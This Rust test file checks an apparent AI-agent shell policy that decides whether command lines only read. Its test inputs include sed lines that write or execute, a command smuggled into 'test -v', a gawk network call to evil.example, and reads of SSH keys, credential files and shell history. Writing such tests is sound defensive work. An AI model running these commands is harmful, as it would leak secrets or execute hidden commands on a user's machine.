//! Command lines that only seemed to read.

use bot_policy::shell::{Denylist, FolderTrust, ReadOnly, judge};

fn only_reads(line: &str) -> bool {
    judge(line, &Denylist::default(), FolderTrust::Trusted).read_only == ReadOnly::Proven
}

#[test]
fn an_option_behind_a_file_counts_as_one_before_it() {
    for line in [
        "sed -n p f -e '1e id'",
        "sed p f -i",
        "sed p f -f x.sed",
        "sed -n p f -e 'w out'",
        "sed p f --in-place",
    ] {
        assert!(!only_reads(line), "{line}");
    }
    for line in ["sed -n 1,5p notes.txt", "sed -n -- p f", "sed -n -e p f g"] {
        assert!(only_reads(line), "{line}");
    }
}

#[test]
fn a_bracket_that_hides_where_a_pattern_ends_is_no_proof() {
    for line in [
        "sed 's/[/]/#/w out' f",
        "sed -n '/[/]/w out' f",
        "sed 's/[[:alpha:]/]/#/w out' f",
        "sed 's/[]/]/#/w out' f",
        "sed 's/[^]/]/#/w out' f",
    ] {
        assert!(!only_reads(line), "{line}");
    }
    for line in ["sed -n '/[0-9]/p' f", "sed 's/[[:space:]]*$//' f"] {
        assert!(only_reads(line), "{line}");
    }
}

#[test]
fn names_that_some_shells_compute_prove_nothing() {
    for line in [
        "test -v 'a[$(touch x)]'",
        "[ -v name ]",
        "printf '-va[0]' %s 1",
        "printf -v name x",
        "ps auxe",
        "ps eww",
        "gawk '{print}' /inet/tcp/0/evil.example/80",
        "cat /home/me/.config/gh/hosts.yml",
        "cat /home/me/.cargo/credentials.toml",
        "cat /home/me/.bash_history",
        "grep -r . /run/credentials",
        "cat /home/me/.ssh/id_ecdsa",
    ] {
        assert!(!only_reads(line), "{line}");
    }
    for line in ["printf %s x", "test -f x", "ps aux", "ps -ef"] {
        assert!(only_reads(line), "{line}");
    }
}
